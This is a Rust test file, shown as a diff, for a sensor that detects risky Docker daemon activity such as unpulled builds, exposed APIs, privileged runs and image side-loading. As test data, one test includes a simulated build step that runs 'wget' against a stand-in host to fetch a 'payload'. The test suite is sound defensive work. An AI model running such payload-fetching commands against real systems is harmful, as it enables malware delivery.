@@ -1,0 +1,542 @@
+//! Correlation on byte streams recorded from a real dockerd (sensor/testdata, cut out of
+//! integration runs with `cargo xtask fixture`), fed as the kernel delivered them and also one
+//! byte per syscall.
+use std::{
+    net::{IpAddr, Ipv4Addr},
+    path::PathBuf,
+};
+
+use base64::Engine as _;
+use serde_json::Value;
+
+use super::*;
+use crate::{
+    config::Allow,
+    detect::{allow::Allowlist, ledger::Ledger},
+    process_table::Ancestor,
+};
+
+const MS: u64 = 1_000_000;
+const DOCKERD: u32 = 100;
+const SOCKET: &str = "/run/docker.sock";
+
+/// One recorded syscall: bytes moved and the prefix captured.
+struct Record {
+    length: u32,
+    bytes: Vec<u8>,
+}
+
+fn fixture(name: &str) -> Vec<Record> {
+    let path = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("testdata").join(name);
+    let text = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
+    text.lines()
+        .map(|line| {
+            let record: Value = serde_json::from_str(line).unwrap();
+            let content = record["content"].as_str().unwrap();
+            let bytes = match record["encoding"].as_str().unwrap() {
+                "text" => content.as_bytes().to_vec(),
+                _ => base64::engine::general_purpose::STANDARD.decode(content).unwrap(),
+            };
+            Record {
+                length: record["length"].as_u64().unwrap() as u32,
+                bytes,
+            }
+        })
+        .collect()
+}
+
+fn client_process(pid: u32, comm: &str) -> ProcessView {
+    ProcessView {
+        pid,
+        tid: pid,
+        ppid: Some(1),
+        comm: comm.into(),
+        uid: 1000,
+        gid: 1000,
+        exe: Some(format!("/usr/bin/{comm}")),
+        argv: Some(vec![comm.into(), "build".into(), ".".into()]),
+        argv_truncated: false,
+        cwd: Some("/home/user".into()),
+        container_id: None,
+        ancestry: Some(vec![Ancestor {
+            pid: 1,
+            comm: "init".into(),
+            exe: None,
+        }]),
+    }
+}
+
+/// Where a recorded stream is replayed: which side, over which endpoint.
+#[derive(Clone)]
+struct Side {
+    conn_id: u64,
+    role: Role,
+    direction: Dir,
+    tgid: u32,
+    comm: &'static str,
+    peer: Endpoint,
+    local: Option<Endpoint>,
+    process: ProcessView,
+}
+
+impl Side {
+    fn daemon(conn_id: u64) -> Self {
+        Self {
+            conn_id,
+            role: Role::DaemonAccepted,
+            direction: Dir::Recv,
+            tgid: DOCKERD,
+            comm: "dockerd",
+            peer: Endpoint::Unix(String::new()),
+            local: Some(Endpoint::Unix(SOCKET.into())),
+            process: client_process(DOCKERD, "dockerd"),
+        }
+    }
+
+    fn remote(conn_id: u64, peer: [u8; 4]) -> Self {
+        Self {
+            peer: Endpoint::Tcp(IpAddr::V4(Ipv4Addr::from(peer)), 40000),
+            local: Some(Endpoint::Tcp(IpAddr::V4(Ipv4Addr::new(10, 0, 0, 1)), 2375)),
+            ..Self::daemon(conn_id)
+        }
+    }
+
+    fn client(conn_id: u64, pid: u32, comm: &'static str) -> Self {
+        Self {
+            conn_id,
+            role: Role::Client,
+            direction: Dir::Send,
+            tgid: pid,
+            comm,
+            peer: Endpoint::Unix(SOCKET.into()),
+            local: None,
+            process: client_process(pid, comm),
+        }
+    }
+
+    fn outbound(conn_id: u64) -> Self {
+        Self {
+            conn_id,
+            role: Role::DaemonOutbound,
+            direction: Dir::Send,
+            peer: Endpoint::Tcp(IpAddr::V4(Ipv4Addr::LOCALHOST), 5000),
+            local: None,
+            ..Self::daemon(conn_id)
+        }
+    }
+}
+
+struct Harness {
+    detector: Detector,
+    now: u64,
+    lines: u64,
+    findings: Vec<Finding>,
+}
+
+impl Harness {
+    fn new() -> Self {
+        Self::with_allow(Allow::default())
+    }
+
+    fn with_allow(allow: Allow) -> Self {
+        Self {
+            detector: Detector::new(
+                Settings {
+                    allow: Allowlist::compile(&allow).unwrap(),
+                    lookback_ns: 24 * 3600 * 1_000_000_000,
+                    boot_to_wall_ns: 1_700_000_000_000_000_000,
+                },
+                Ledger::in_memory(1000),
+            ),
+            now: 1_000 * MS,
+            lines: 0,
+            findings: Vec::new(),
+        }
+    }
+
+    fn line_id(&mut self) -> String {
+        self.lines += 1;
+        format!("line-{}", self.lines)
+    }
+
+    /// Feeds a recorded stream, one record per millisecond, or one byte per syscall.
+    fn feed(&mut self, side: &Side, name: &str, bytewise: bool) {
+        for record in fixture(name) {
+            let pieces: Vec<(Vec<u8>, u32)> = if bytewise && record.bytes.len() as u32 == record.length {
+                record.bytes.iter().map(|b| (vec![*b], 1)).collect()
+            } else {
+                vec![(record.bytes.clone(), record.length)]
+            };
+            for (bytes, length) in pieces {
+                self.now += MS / 10;
+                let header = Header {
+                    boot_ns: self.now,
+                    pid: side.tgid,
+                    tgid: side.tgid,
+                    uid: 0,
+                    gid: 0,
+                    cgroup_id: 0,
+                    comm: side.comm.into(),
+                };
+                let id = self.line_id();
+                self.detector.on_data(DataInput {
+                    header: &header,
+                    line_id: &id,
+                    conn_id: side.conn_id,
+                    role: side.role,
+                    direction: side.direction,
+                    peer: &side.peer,
+                    local: side.local.as_ref(),
+                    bytes: &bytes,
+                    total_len: length,
+                    process: side.process.clone(),
+                });
+                self.collect();
+            }
+        }
+    }
+
+    fn close(&mut self, conn_id: u64) {
+        self.now += MS;
+        self.detector.on_close(conn_id, self.now);
+        self.collect();
+    }
+
+    /// Lets `ms` pass (pairing and body waits expire).
+    fn wait(&mut self, ms: u64) {
+        self.now += ms * MS;
+        self.detector.tick(self.now);
+        self.collect();
+    }
+
+    fn exec(&mut self, process: &ProcessView) -> String {
+        self.now += MS;
+        let header = Header {
+            boot_ns: self.now,
+            pid: process.pid,
+            tgid: process.pid,
+            uid: 0,
+            gid: 0,
+            cgroup_id: 0,
+            comm: process.comm.clone(),
+        };
+        let id = self.line_id();
+        self.detector.on_exec(&header, &id, process);
+        self.collect();
+        id
+    }
+
+    fn collect(&mut self) {
+        self.findings
+            .extend(self.detector.take_findings().into_iter().map(|(_, f)| f));
+    }
+
+    fn json(&self) -> Vec<Value> {
+        self.findings
+            .iter()
+            .map(|f| {
+                let mut value = serde_json::to_value(f).unwrap();
+                value["kind"] = f.kind().into();
+                value
+            })
+            .collect()
+    }
+
+    fn detections(&self, rule: &str) -> Vec<Value> {
+        self.json()
+            .into_iter()
+            .filter(|v| v["kind"] == "detection" && v["detection"]["rule"] == rule)
+            .collect()
+    }
+
+    fn of_kind(&self, kind: &str) -> Vec<Value> {
+        self.json().into_iter().filter(|v| v["kind"] == kind).collect()
+    }
+}
+
+fn strings(value: &Value) -> Vec<String> {
+    value
+        .as_array()
+        .into_iter()
+        .flatten()
+        .map(|v| v.as_str().unwrap_or_default().to_string())
+        .collect()
+}
+
+#[test]
+fn classic_build_is_flagged_whole_or_byte_by_byte() {
+    for bytewise in [false, true] {
+        let mut h = Harness::new();
+        h.feed(&Side::daemon(1), "classic_build.recv.jsonl", bytewise);
+        h.wait(PAIR_WAIT_NS / MS);
+        let found = h.detections("build_without_pull");
+        assert_eq!(found.len(), 1, "bytewise {bytewise}: {:?}", h.json());
+        let build = &found[0]["build"];
+        assert_eq!(found[0]["detection"]["severity"], "medium");
+        assert_eq!(build["builder"], "classic");
+        assert_eq!(strings(&build["tags"]), ["docker.io/bwtest/classic:3252d9e2edb0"]);
+        assert_eq!(build["endpoint"], "unix:/run/docker.sock");
+        assert_eq!(build["daemon"]["pid"], DOCKERD);
+        // The chunked tar body gave the Dockerfile.
+        assert_eq!(strings(&build["instructions"]["from"]), ["127.0.0.1:5000/bwbase:1"]);
+        assert_eq!(strings(&build["instructions"]["run"]), ["echo classic-3252d9e2edb0 > /marker"]);
+        assert!(!found[0]["detection"]["evidence"].as_array().unwrap().is_empty());
+        h.close(1);
+        let summary = h.of_kind("build");
+        assert_eq!(summary.len(), 1);
+        assert_eq!(summary[0]["build"]["state"], "finished");
+        assert_eq!(summary[0]["build"]["detection_id"], found[0]["detection"]["id"]);
+    }
+}
+
+#[test]
+fn client_and_daemon_halves_make_one_operation() {
+    let mut h = Harness::new();
+    h.feed(&Side::client(7, 4242, "docker"), "classic_build.send.jsonl", false);
+    h.feed(&Side::daemon(8), "classic_build.recv.jsonl", false);
+    h.wait(1);
+    let operations = h.of_kind("docker.operation");
+    assert_eq!(operations.len(), 1, "{operations:?}");
+    let operation = &operations[0]["operation"];
+    assert_eq!(operation["client"]["pid"], 4242);
+    assert_eq!(operation["client"]["exe"], "/usr/bin/docker");
+    assert_eq!(operation["daemon"]["pid"], DOCKERD);
+    assert_eq!(operation["path"], "/build");
+    assert_eq!(operation["api_version"], "v1.41");
+    assert!(operation["evidence"].as_array().unwrap().len() >= 2, "{operation}");
+    let found = h.detections("build_without_pull");
+    assert_eq!(found.len(), 1);
+    assert!(found[0]["detection"]["summary"]
+        .as_str()
+        .unwrap()
+        .starts_with("/usr/bin/docker (pid 4242, uid 1000)"));
+}
+
+#[test]
+fn remote_tcp_build_is_critical_and_the_api_exposed_once() {
+    let mut h = Harness::new();
+    h.feed(&Side::remote(1, [10, 9, 8, 7]), "remote_tcp_build.recv.jsonl", false);
+    h.feed(&Side::remote(2, [10, 9, 8, 7]), "pull.recv.jsonl", false);
+    h.wait(1);
+    let found = h.detections("build_without_pull");
+    assert_eq!(found.len(), 1, "{:?}", h.json());
+    assert_eq!(found[0]["detection"]["severity"], "critical");
+    assert_eq!(found[0]["build"]["peer"], "10.9.8.7:40000");
+    assert_eq!(found[0]["build"]["endpoint"], "10.0.0.1:2375");
+    let exposed = h.detections("api_exposed");
+    assert_eq!(exposed.len(), 1, "once per peer");
+    assert_eq!(exposed[0]["detection"]["attack"]["technique"], "T1133");
+}
+
+#[test]
+fn allowlisted_peer_is_counted_not_reported() {
+    let mut h = Harness::with_allow(Allow {
+        peer_cidrs: vec!["10.0.0.0/8".into()],
+        ..Allow::default()
+    });
+    h.feed(&Side::remote(1, [10, 9, 8, 7]), "remote_tcp_build.recv.jsonl", false);
+    h.wait(1);
+    assert!(h.of_kind("detection").is_empty(), "{:?}", h.json());
+    let stats = h.detector.stats();
+    assert_eq!(stats.suppressed.get("build_without_pull"), Some(&1));
+    assert_eq!(stats.suppressed.get("api_exposed"), Some(&1));
+}
+
+#[test]
+fn pull_then_build_of_the_same_repository_is_not_flagged() {
+    let mut h = Harness::new();
+    h.feed(&Side::daemon(1), "pull.recv.jsonl", false);
+    h.wait(PAIR_WAIT_NS / MS);
+    h.feed(&Side::daemon(2), "ci_build.recv.jsonl", false);
+    h.wait(PAIR_WAIT_NS / MS);
+    assert!(h.detections("build_without_pull").is_empty(), "{:?}", h.json());
+    assert_eq!(h.of_kind("docker.operation").len(), 2);
+    // Without the pull, the same build is flagged.
+    let mut fresh = Harness::new();
+    fresh.feed(&Side::daemon(2), "ci_build.recv.jsonl", false);
+    fresh.wait(PAIR_WAIT_NS / MS);
+    assert_eq!(fresh.detections("build_without_pull").len(), 1);
+}
+
+#[test]
+fn buildkit_session_and_build() {
+    let mut h = Harness::new();
+    h.feed(&Side::daemon(1), "buildkit_build.recv.jsonl", false);
+    h.feed(&Side::daemon(2), "buildkit_session.recv.jsonl", false);
+    h.wait(BODY_WAIT_NS / MS);
+    let found = h.detections("build_without_pull");
+    assert_eq!(found.len(), 1, "{:?}", h.json());
+    assert_eq!(found[0]["build"]["builder"], "buildkit");
+    assert!(found[0]["build"]["session"].is_string());
+    let types: Vec<String> = h
+        .of_kind("docker.operation")
+        .iter()
+        .map(|o| o["operation"]["type"].as_str().unwrap().to_string())
+        .collect();
+    assert_eq!(types, ["build", "buildkit_session"]);
+}
+
+#[test]
+fn curl_build_with_continue_unversioned_and_repeated_tags() {
+    for bytewise in [false, true] {
+        let mut h = Harness::new();
+        h.feed(&Side::client(5, 777, "curl"), "curl_build.send.jsonl", bytewise);
+        h.feed(&Side::daemon(6), "curl_build.recv.jsonl", bytewise);
+        h.wait(1);
+        let found = h.detections("build_without_pull");
+        assert_eq!(found.len(), 1, "{:?}", h.json());
+        let build = &found[0]["build"];
+        assert_eq!(
+            strings(&build["tags"]),
+            ["docker.io/bwdet/curl:3030daa8fce5", "docker.io/bwdet/curl:latest"]
+        );
+        assert_eq!(build["client"]["comm"], "curl");
+        assert_eq!(strings(&build["instructions"]["from"]), ["127.0.0.1:5000/bwbase:1"]);
+    }
+}
+
+#[test]
+fn privileged_run_of_a_built_image_is_critical() {
+    let mut h = Harness::new();
+    h.feed(&Side::daemon(1), "create_privileged.recv.jsonl", false);
+    h.wait(BODY_WAIT_NS / MS);
+    assert!(
+        h.detections("run_of_unpulled_image").is_empty(),
+        "an image of unknown origin is not flagged"
+    );
+    h.feed(&Side::daemon(2), "run_build.recv.jsonl", false);
+    h.feed(&Side::daemon(3), "create_privileged.recv.jsonl", false);
+    h.wait(BODY_WAIT_NS / MS);
+    let found = h.detections("run_of_unpulled_image");
+    assert_eq!(found.len(), 1, "{:?}", h.json());
+    assert_eq!(found[0]["detection"]["severity"], "critical");
+    assert_eq!(found[0]["detection"]["attack"]["technique"], "T1610");
+    assert_eq!(found[0]["operation"]["privileged"], true);
+    assert_eq!(found[0]["operation"]["sensitive_mounts"][0]["source"], "/");
+}
+
+#[test]
+fn load_is_side_loading() {
+    let mut h = Harness::new();
+    h.feed(&Side::daemon(1), "load.recv.jsonl", false);
+    h.wait(BODY_WAIT_NS / MS);
+    let found = h.detections("image_side_loaded");
+    assert_eq!(found.len(), 1, "{:?}", h.json());
+    assert_eq!(found[0]["detection"]["severity"], "medium");
+    assert_eq!(found[0]["operation"]["type"], "load");
+}
+
+#[test]
+fn registry_fetches_become_base_images_and_provenance() {
+    let mut h = Harness::new();
+    h.feed(&Side::daemon(1), "remote_tcp_build.recv.jsonl", false);
+    h.wait(PAIR_WAIT_NS / MS);
+    h.feed(&Side::outbound(2), "registry_tls.send.jsonl", false);
+    h.feed(&Side::outbound(3), "registry_manifest.send.jsonl", false);
+    h.feed(&Side::outbound(4), "registry_digest.send.jsonl", false);
+    h.close(1);
+    let summary = &h.of_kind("build")[0]["build"];
+    let bases = summary["base_images"].as_array().unwrap();
+    assert_eq!(bases.len(), 1, "{bases:?}");
+    assert_eq!(bases[0]["reference"], "127.0.0.1:5000/bwbase:1");
+    assert_eq!(bases[0]["fetched"], true);
+    assert_eq!(bases[0]["in_dockerfile"], true);
+    assert!(bases[0]["digest"].as_str().unwrap().starts_with("sha256:"));
+    assert!(summary["egress"].as_array().unwrap().is_empty(), "a registry is not egress");
+    let image = ImageRef::parse("127.0.0.1:5000/bwbase:1").unwrap();
+    assert!(h.detector.ledger().provenance(&image, &|_| true).pulled);
+}
+
+#[test]
+fn steps_and_egress_of_a_flagged_build() {
+    let mut h = Harness::new();
+    h.feed(&Side::daemon(1), "classic_build.recv.jsonl", false);
+    h.wait(PAIR_WAIT_NS / MS);
+    let mut step = client_process(500, "wget");
+    step.exe = Some("/bin/busybox".into());
+    step.argv = Some(vec!["wget".into(), "http://203.0.113.9/payload".into()]);
+    step.ancestry = Some(vec![
+        Ancestor {
+            pid: 499,
+            comm: "sh".into(),
+            exe: None,
+        },
+        Ancestor {
+            pid: 498,
+            comm: "containerd-shim".into(),
+            exe: None,
+        },
+    ]);
+    let exec_line = h.exec(&step);
+    let mut unrelated = client_process(600, "ls");
+    unrelated.argv = Some(vec!["ls".into()]);
+    h.exec(&unrelated);
+    let egress = h.detections("build_egress");
+    assert_eq!(egress.len(), 1, "{:?}", h.json());
+    assert_eq!(egress[0]["detection"]["severity"], "high", "medium build raised one level");
+    assert!(strings(&egress[0]["detection"]["evidence"]).contains(&exec_line));
+    h.close(1);
+    let summary = &h.of_kind("build")[0]["build"];
+    assert_eq!(summary["steps"].as_array().unwrap().len(), 1, "{summary}");
+    assert_eq!(summary["steps"][0]["argv"][0], "wget");
+    assert_eq!(summary["severity"], "high");
+}
+
+#[test]
+fn podman_build_from_its_command_line() {
+    let mut h = Harness::new();
+    let mut podman = client_process(900, "podman");
+    // As the process table hands it over: build-arg values already blanked.
+    let mut argv: Vec<String> = ["podman", "build", "-t", "evil:1", "--build-arg", "TOKEN=s3cret", "."]
+        .map(String::from)
+        .to_vec();
+    crate::redact::argv(&mut argv);
+    podman.argv = Some(argv);
+    h.exec(&podman);
+    let found = h.detections("build_without_pull");
+    assert_eq!(found.len(), 1);
+    assert_eq!(found[0]["build"]["builder"], "podman");
+    assert_eq!(found[0]["build"]["transport"], "exec");
+    assert_eq!(strings(&found[0]["build"]["build_arg_keys"]), ["TOKEN"]);
+    assert!(!serde_json::to_string(&h.json()).unwrap().contains("s3cret"));
+    h.now += MS;
+    h.detector.on_exit(900, h.now);
+    h.collect();
+    assert_eq!(h.of_kind("build")[0]["build"]["state"], "finished");
+}
+
+#[test]
+fn malformed_streams_never_panic() {
+    let mut h = Harness::new();
+    let side = Side::daemon(1);
+    let mut seed = 0x9e37_79b9_u32;
+    for round in 0..200u32 {
+        let len = (round * 37) % 700 + 1;
+        let bytes: Vec<u8> = (0..len)
+            .map(|_| {
+                seed ^= seed << 13;
+                seed ^= seed >> 17;
+                seed ^= seed << 5;
+                // Mostly HTTP-ish bytes, so the parser gets deep before failing.
+                b"POST /build?t=x HTTP/1.1\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n0\r\n\xff"
+                    [(seed % 73) as usize]
+            })
+            .collect();
+        h.now += MS;
+        let header = Header::for_test(DOCKERD, "dockerd", h.now);
+        h.detector.on_data(DataInput {
+            header: &header,
+            line_id: "x",
+            conn_id: side.conn_id,
+            role: side.role,
+            direction: side.direction,
+            peer: &side.peer,
+            local: side.local.as_ref(),
+            bytes: &bytes,
+            total_len: len + round % 3 * 1000,
+            process: side.process.clone(),
+        });
+    }
+    h.detector.flush(h.now);
+    h.collect();
+}
